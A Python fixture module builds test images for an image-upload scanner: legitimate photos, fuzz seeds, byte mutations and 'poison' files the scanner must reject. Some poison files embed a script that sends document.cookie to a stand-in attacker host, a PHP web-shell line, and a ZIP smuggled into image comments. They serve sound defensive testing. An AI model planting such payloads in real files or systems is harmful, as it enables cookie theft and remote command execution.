"""Images for the scan check, all made here with Pillow: real-looking ones (EXIF with a
thumbnail, XMP, ICC, Adobe APP14, MPF) that must pass, small seeds for the fuzzer, and the
poison images — each built from a seed the way the fuzzer or the issue found it."""

import io
import struct
import zipfile

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

SCAN_SIZE = (1240, 1754)  # an A4 page at 150 dpi: passes the resolution rule
XMP = (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
       b'<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="XMP Core 6.0.0">'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/"'
       b' xmp:CreatorTool="Scanner 1.0" xmp:CreateDate="2026-12-01T10:00:00"/>'
       b"</rdf:RDF></x:xmpmeta>\n" + b" " * 200 + b'<?xpacket end="w"?>')
SCRIPT = b"<script>fetch('https://evil.test/?c='+document.cookie)</script>"


def page(size: tuple[int, int] = SCAN_SIZE, mode: str = "RGB") -> Image.Image:
    """A white page with some dark lines and a red disc, so the encoders have work to do."""
    image = Image.new("RGB", size, "white")
    w, h = size
    for y in range(0, h, max(1, h // 12)):
        image.paste((40, 40, 40), (w // 10, y, w - w // 10, min(h, y + max(1, h // 100))))
    image.paste((200, 20, 20), (w // 2, h // 2, w // 2 + max(1, w // 5), h // 2 + max(1, h // 5)))
    return image.convert(mode)


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def camera_exif() -> bytes:
    """EXIF as a phone writes it: make, model, date, orientation, and a JPEG thumbnail in IFD1
    (JPEGInterchangeFormat/Length point at it inside the APP1 segment)."""
    thumb = io.BytesIO()
    page((160, 120)).save(thumb, "JPEG", quality=70)
    thumbnail = thumb.getvalue()
    entries0 = [(0x010F, 2, b"Phone\0"), (0x0110, 2, b"Model 12\0"), (0x0112, 3, 1),
                (0x0132, 2, b"2026:12:01 10:00:00\0")]
    # TIFF header (8) + IFD0 + IFD1 + values + thumbnail, offsets from the TIFF header
    ifd0_size = 2 + 12 * len(entries0) + 4
    ifd1_at = 8 + ifd0_size
    ifd1_size = 2 + 12 * 2 + 4
    values_at = ifd1_at + ifd1_size
    values = b""
    ifd0 = struct.pack("<H", len(entries0))
    for tag, kind, value in entries0:
        if kind == 3:
            ifd0 += struct.pack("<HHIHH", tag, 3, 1, value, 0)
        elif len(value) <= 4:
            ifd0 += struct.pack("<HHI", tag, 2, len(value)) + value.ljust(4, b"\0")
        else:
            ifd0 += struct.pack("<HHII", tag, 2, len(value), values_at + len(values))
            values += value
    ifd0 += struct.pack("<I", ifd1_at)
    thumb_at = values_at + len(values)
    ifd1 = struct.pack("<H", 2) + struct.pack("<HHII", 0x0201, 4, 1, thumb_at)
    ifd1 += struct.pack("<HHII", 0x0202, 4, 1, len(thumbnail)) + struct.pack("<I", 0)
    return b"Exif\0\0" + b"II*\0" + struct.pack("<I", 8) + ifd0 + ifd1 + values + thumbnail


def phone_jpeg(size: tuple[int, int] = SCAN_SIZE) -> bytes:
    """A JPEG with EXIF (and its thumbnail), XMP, an ICC profile and a comment."""
    out = io.BytesIO()
    page(size).save(out, "JPEG", quality=85, exif=camera_exif(), xmp=XMP,
                    icc_profile=srgb_profile(), comment=b"Scanned with a phone")
    return out.getvalue()


def adobe_cmyk_jpeg(size: tuple[int, int] = SCAN_SIZE) -> bytes:
    """CMYK, as print shops' software saves it: Pillow writes Adobe's APP14 segment."""
    out = io.BytesIO()
    page(size, "CMYK").save(out, "JPEG", quality=85)
    return out.getvalue()


def mpf_jpeg(size: tuple[int, int] = SCAN_SIZE) -> bytes:
    """A JPEG with an MPF index (APP2) and a second, smaller JPEG after its end, as phones
    store a depth or gain map: Pillow calls it MPO."""
    out = io.BytesIO()
    page(size).save(out, "MPO", save_all=True, append_images=[page((size[0] // 4, size[1] // 4))],
                    quality=85)
    return out.getvalue()


def progressive_jpeg(size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    page(size).save(out, "JPEG", quality=80, progressive=True)
    return out.getvalue()


def jpeg(size: tuple[int, int], **options: object) -> bytes:
    out = io.BytesIO()
    page(size).save(out, "JPEG", **options)
    return out.getvalue()


def gif(size: tuple[int, int], frames: int = 1, comment: bytes = b"") -> bytes:
    images = [page(size).rotate(90 * n).convert("P") for n in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:], duration=100,
                   loop=0, **({"comment": comment} if comment else {}))
    return out.getvalue()


def bmp(size: tuple[int, int], mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    page(size, mode).save(out, "BMP")
    return out.getvalue()


def zip_of(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def with_segment(data: bytes, marker: int, payload: bytes) -> bytes:
    """The JPEG with one more segment (COM = 0xFE, APPn = 0xE0 + n) right after SOI."""
    assert data[:2] == b"\xff\xd8"
    assert len(payload) <= 65533
    head = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2)
    return data[:2] + head + payload + data[2:]


def with_gif_extension(data: bytes, label: int, payload: bytes) -> bytes:
    """The GIF with one more extension block (comment 0xFE, application 0xFF) before its end."""
    blocks = b"".join(bytes([len(payload[i:i + 255])]) + payload[i:i + 255]
                      for i in range(0, len(payload), 255))
    assert data.endswith(b";")
    return data[:-1] + bytes([0x21, label]) + blocks + b"\0;"


def phone_png(size: tuple[int, int], mode: str = "RGBA") -> bytes:
    """A PNG as phones and QQ screenshots give: alpha or a palette with a transparent colour,
    EXIF (rotated), an ICC profile and a text chunk."""
    image = page(size, "RGB" if mode == "P" else mode)
    if mode == "P":
        image = image.convert("P")
        image.info["transparency"] = 0
    info = PngInfo()
    info.add_text("Software", "Screenshot")
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=camera_exif()[6:].replace(
        struct.pack("<HHIHH", 0x0112, 3, 1, 1, 0), struct.pack("<HHIHH", 0x0112, 3, 1, 6, 0)),
        icc_profile=srgb_profile(), transparency=0 if mode == "P" else None)
    return out.getvalue()


def fuzz_seeds() -> dict[str, bytes]:
    """Small images (each checked in about a millisecond) whose every structure the fuzzer can
    reach: EXIF/XMP/ICC/comment segments, progressive scans, MPF, GIF extensions, palettes."""
    return {
        "jpeg-baseline": phone_jpeg((48, 32)),
        "jpeg-progressive": progressive_jpeg((48, 32)),
        "jpeg-grey-restarts": jpeg((40, 24), quality=60, restart_marker_blocks=1),
        "jpeg-mpf": mpf_jpeg((32, 24)),
        "jpeg-cmyk-adobe": adobe_cmyk_jpeg((24, 16)),
        "gif-static": gif((32, 24), comment=b"scanner"),
        "gif-animated": gif((24, 16), frames=3),
        "bmp-rgb": bmp((20, 10)),
        "bmp-palette": bmp((20, 10), "P"),
        "png-rgba-exif": phone_png((24, 16)),
        "png-palette-transparent": phone_png((20, 10), "P"),
    }


# --- mutations: what the fuzzer does to a seed, replayable from a test's literal ----------
# ("flip", at, xor), ("cut", at), ("insert", at, bytes), ("delete", at, n), ("set", i, bytes)
Op = tuple
FIELD_VALUES = (b"\0", b"\1", b"\xff", b"\0\0", b"\0\1", b"\1\0", b"\xff\xff", b"\0\0\0\0",
                b"\xff\xff\xff\xff")


def mutated(seed: bytes, ops: list[Op]) -> bytes:
    """Apply the operations in turn; positions wrap around the current length, and "set"
    overwrites the seed's i-th header field (``header_fields``) with the bytes given."""
    data = bytearray(seed)
    fields = header_fields(seed)
    for op in ops:
        kind, where = op[0], op[1]
        at = where % (len(data) + 1)
        if kind == "flip" and data:
            data[min(at, len(data) - 1)] ^= op[2]
        elif kind == "cut":
            del data[at:]
        elif kind == "insert":
            data[at:at] = op[2]
        elif kind == "delete":
            del data[at:at + op[2]]
        elif kind == "set":
            at = fields[where % len(fields)]
            data[at:at + len(op[2])] = op[2]
    return bytes(data)


def header_fields(data: bytes) -> list[int]:
    """Offsets of the fields a damaged or hostile file would get wrong: segment and block
    lengths, widths and heights, counts, flags, the pixel array's offset."""
    if data[:2] == b"\xff\xd8":
        return _jpeg_fields(data)
    if data[:3] == b"GIF":
        return _gif_fields(data)
    if data[:2] == b"BM":
        return [2, 10, 14, 18, 20, 22, 24, 26, 28, 30, 34, 46, 50]
    if data[:4] == b"\x89PNG":
        return _png_fields(data)
    return [0]


def _png_fields(data: bytes) -> list[int]:
    """Each chunk's length, and the header's width, height, bit depth and colour type."""
    fields, at = [16, 20, 24, 25], 8
    while at + 8 <= len(data):
        fields.append(at)
        at += 12 + int.from_bytes(data[at:at + 4], "big")
    return fields


def _jpeg_fields(data: bytes) -> list[int]:
    fields, at = [], 2
    while at + 4 <= len(data) and data[at] == 0xFF:
        marker = data[at + 1]
        length = int.from_bytes(data[at + 2:at + 4], "big")
        fields.append(at + 2)
        if marker in (0xC0, 0xC1, 0xC2):  # precision, height, width, components
            fields += [at + 4, at + 5, at + 7, at + 9, at + 11]
        elif marker in (0xDA, 0xDB, 0xC4, 0xDD):  # component count, table ids, interval
            fields += [at + 4, at + 5]
        elif 0xE0 <= marker <= 0xEF:  # the identifier, and (EXIF, MPF) the TIFF header's offsets
            fields += [at + 4, at + 14, at + 16, at + 18]
        if marker == 0xDA:
            break
        at += 2 + length
    return fields


def _gif_fields(data: bytes) -> list[int]:
    fields = [6, 8, 10, 11]  # screen width, height, flags, background colour
    flags = data[10]
    at = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    while at < len(data) and data[at] != 0x3B:
        if data[at] == 0x21:
            fields += [at + 1, at + 2, at + 3, at + 4]  # label, size, content
            at += 2
        else:  # image descriptor: left, top, width, height, flags, LZW code size
            fields += [at + 1, at + 3, at + 5, at + 7, at + 9, at + 10]
            local = data[at + 9]
            at += 10 + (3 << ((local & 7) + 1) if local & 0x80 else 0) + 1
        while at < len(data) and data[at]:
            at += data[at] + 1
        at += 1
    return [f for f in fields if f < len(data)]


def damaged_gif(into_descriptor: int = 9) -> bytes:
    """A two-frame GIF at scan size, cut ``into_descriptor`` bytes after its second frame's
    control block: Pillow's frame count read past the end (5: struct.error, 9: IndexError)."""
    data = gif(SCAN_SIZE, frames=2)
    control = data.index(b"\x21\xf9\x04", data.index(b"\x21\xf9\x04") + 1)
    return data[:control + 8 + into_descriptor]


def poison_images() -> dict[str, tuple[bytes, str]]:
    """Name (as sent) → bytes, and what the refusal must say: each crashed the check or went
    through it before."""
    scan = jpeg(SCAN_SIZE)
    return {
        "separator-line-800x4.jpg": (jpeg((800, 4)), "图片太小"),
        "icon-3x3.jpg": (jpeg((3, 3)), "图片太小"),
        "one-pixel-high.jpg": (jpeg((1240, 1)), "图片太小"),
        "damaged-struct.gif": (damaged_gif(5), "图片已损坏"),
        "damaged-index.gif": (damaged_gif(9), "图片已损坏"),
        "animated.gif": (gif(SCAN_SIZE, frames=3), "不支持动图"),
        "zip-in-comment.jpg": (with_segment(scan, 0xFE, zip_of("invoice.exe", b"MZ" * 50)),
                               "图片中夹带了其他文件"),
        "script-in-app4.jpg": (with_segment(scan, 0xE4, b"<html><body>" + SCRIPT),
                               "图片中夹带了其他文件"),
        "script-in-xmp.jpg": (with_segment(scan, 0xE1, b"http://ns.adobe.com/xap/1.0/\0"
                                           + XMP.replace(b"</rdf:RDF>", SCRIPT + b"</rdf:RDF>")),
                              "图片中夹带了其他文件"),
        "php-in-exif.jpg": (with_segment(scan, 0xE1, b"Exif\0\0<?php system($_GET[1]); ?>"),
                            "图片中夹带了其他文件"),
        "zip-in-gif-comment.gif": (with_gif_extension(gif(SCAN_SIZE), 0xFE,
                                                      zip_of("a.txt", b"hello")),
                                   "图片中夹带了其他文件"),
    }
